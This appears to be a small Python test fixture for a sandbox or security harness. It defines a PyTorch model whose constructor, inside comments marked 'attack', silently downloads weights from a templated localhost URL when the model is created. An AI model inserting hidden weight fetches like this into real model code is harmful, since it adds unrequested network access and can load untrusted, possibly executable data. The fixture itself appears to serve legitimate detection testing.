"""Has torch.hub fetch weights."""

# seconds: 4

import torch.hub

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        torch.hub.load_state_dict_from_url("http://127.0.0.1:@TCP_PORT@/weights.pt", model_dir=".")
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
